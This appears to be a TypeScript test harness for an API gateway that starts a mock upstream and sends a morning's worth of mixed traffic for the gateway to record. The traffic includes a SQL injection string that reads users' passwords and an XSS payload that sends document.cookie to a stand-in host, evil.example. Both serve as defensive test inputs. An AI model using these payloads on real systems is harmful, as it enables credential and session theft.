import { once } from 'node:events';
import { rmSync } from 'node:fs';
import http from 'node:http';
import { join } from 'node:path';
import type { CallEvent } from '../../../src/core/event.ts';
import { encodeEvents } from '../../../src/pipeline/event-samples.test.ts';
import { openSqliteEventStore } from '../../../src/store/sqlite/event-store.ts';
import { call, TestGateway } from '../../harness/gateway.ts';

/** Routes of every kind the console tells apart: enforced, observed, open, limited, looked through for attacks. */
const CONFIG = (upstream: string) => `mode: enforce
upstreams: { shop: { url: "${upstream}", timeoutSeconds: 2 } }
authenticators: { keys: { type: api-key, header: x-api-key } }
consumers: { acme: { groups: [partners], tier: gold }, globex: { groups: [partners] }, initech: {} }
routes:
  - id: orders
    match: { path: "/orders/*" }
    upstream: shop
    authenticate: { anyOf: [keys] }
    authorize: { scopes: [orders:read] }
    limits:
      - { per: consumer, rate: 5000/1m }
  - id: reports
    match: { path: "/reports/*" }
    upstream: shop
    mode: observe
    authenticate: { anyOf: [keys] }
  - id: pages
    match: { path: "/pages/*", methods: [POST] }
    upstream: shop
    authenticate: { anyOf: [keys] }
    inspect: { payload: default }
  - id: products
    match: { path: "/products/*", methods: [GET] }
    upstream: shop
    authenticate: none
    inspect: { payload: default }
  - id: health
    match: { path: /health, methods: [GET] }
    upstream: shop
    authenticate: none
unmatched: deny
`;

export const ATTACK = "x' UNION SELECT password FROM users --";

export interface SeededGateway {
  readonly gateway: TestGateway;
  /** Keys by consumer. */
  readonly keys: Readonly<Record<'acme' | 'globex' | 'initech', { readonly key: string; readonly keyId: string }>>;
  /** One call through the gateway; resolves with its status and request id. */
  send(sent: Sent): Promise<{ readonly status: number; readonly requestId: string }>;
  stop(): Promise<void>;
}

export interface Sent {
  readonly path: string;
  readonly method?: string;
  readonly key?: string;
  readonly agent?: string;
  readonly json?: unknown;
  readonly headers?: Readonly<Record<string, string>>;
}

interface StartOptions {
  readonly workers?: number;
  /** Another configuration than the usual one, for the API's address. */
  readonly config?: (upstream: string) => string;
  /** Calls that were recorded before it started. */
  readonly past?: readonly CallEvent[];
}

/** A gateway in front of an API that answers, fails and is slow, as its path says; nobody has called it yet. */
export async function startGateway(options: StartOptions = {}): Promise<SeededGateway> {
  const upstream = await startUpstream();
  const started = { config: (options.config ?? CONFIG)(upstream.url), workers: options.workers ?? 1 };
  const first = await TestGateway.start(started);
  const agent = new http.Agent({ keepAlive: true, maxSockets: 8 });
  const keys = {
    acme: await first.createKey('acme', ['orders:read']),
    globex: await first.createKey('globex', ['orders:read']),
    initech: await first.createKey('initech'),
  };
  const gateway = options.past === undefined ? first : await startAgain(first, started, options.past);
  return {
    gateway,
    keys,
    async send({ path, method = 'GET', key, json, agent: userAgent, headers }) {
      const answer = await call(`${gateway.url}${path}`, {
        method,
        agent,
        headers: {
          'user-agent': userAgent ?? 'shop/4.2',
          ...(key === undefined ? {} : { 'x-api-key': key }),
          ...(json === undefined ? {} : { 'content-type': 'application/json' }),
          ...headers,
        },
        ...(json === undefined ? {} : { body: JSON.stringify(json) }),
      });
      return { status: answer.status, requestId: String(answer.headers['sallyport-request-id'] ?? '') };
    },
    async stop() {
      agent.destroy();
      await gateway.stop();
      rmSync(gateway.folder, { recursive: true, force: true });
      await upstream.close();
    },
  };
}

/** Stops a gateway, writes calls into its record, and starts it again where it was. */
async function startAgain(
  first: TestGateway,
  started: { readonly config: string; readonly workers: number },
  past: readonly CallEvent[],
): Promise<TestGateway> {
  first.child.kill('SIGTERM');
  await once(first.child, 'exit');
  const store = openSqliteEventStore(join(first.folder, 'data', 'events.db'));
  for (let from = 0; from < past.length; from += 1_000) store.append(encodeEvents(past.slice(from, from + 1_000)));
  store.close();
  return TestGateway.start({ ...started, folder: first.folder });
}

/** A morning's traffic: mostly good, some of it not. Resolves when all of it is recorded. */
export async function sendTraffic({ gateway, keys, send }: SeededGateway, rounds = 12): Promise<void> {
  let sent = 0;
  const all = async (calls: readonly Sent[]): Promise<void> => {
    await Promise.all(calls.map(send));
    sent += calls.length;
  };
  for (let round = 0; round < rounds; round++) {
    const id = 1_000 + round;
    await all([
      { path: `/orders/${id}`, key: keys.acme.key },
      { path: `/orders/${id}/lines`, key: keys.acme.key, agent: 'shop/4.1' },
      { path: '/orders?page=2', key: keys.globex.key, agent: 'globex-sync/1.0' },
      { path: `/orders/${id}`, key: keys.globex.key, agent: 'globex-sync/1.0' },
      { path: `/products/${id}` },
      { path: '/products?name=blue+shoes' },
      { path: '/health', agent: 'probe' },
    ]);
    await all([
      { path: `/reports/${id}`, agent: 'curl/8.5' },
      { path: `/orders/${id}`, key: keys.initech.key, agent: 'initech/0.3' },
      { path: '/pages/7', method: 'POST', key: keys.acme.key, json: { title: 'Autumn', body: 'Boots are here' } },
    ]);
    if (round % 3 === 0)
      await all([
        { path: '/orders/1', agent: 'python-requests/2.31' },
        { path: '/orders/1', key: 'not-a-key', agent: 'python-requests/2.31' },
        { path: '/wp-login.php', agent: 'scan' },
        { path: '/orders/fail', key: keys.acme.key },
        { path: `/products?name=${encodeURIComponent(ATTACK)}`, agent: 'sqlmap/1.7' },
        {
          path: '/pages/7',
          method: 'POST',
          key: keys.acme.key,
          json: { body: '<script>fetch("//evil.example/"+document.cookie)</script>' },
        },
      ]);
  }
  await gateway.recorded(sent);
}

async function startUpstream(): Promise<{ url: string; close: () => Promise<void> }> {
  const server = http.createServer((request, response) => {
    request.resume();
    response.statusCode = request.url?.endsWith('/fail') === true ? 500 : 200;
    response.setHeader('content-type', 'application/json');
    response.end('{"ok":true}');
  });
  await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
  const address = server.address();
  const port = typeof address === 'object' && address !== null ? address.port : 0;
  return {
    url: `http://127.0.0.1:${port}`,
    close: () =>
      new Promise((resolve) => {
        server.close(() => resolve());
        server.closeAllConnections();
      }),
  };
}
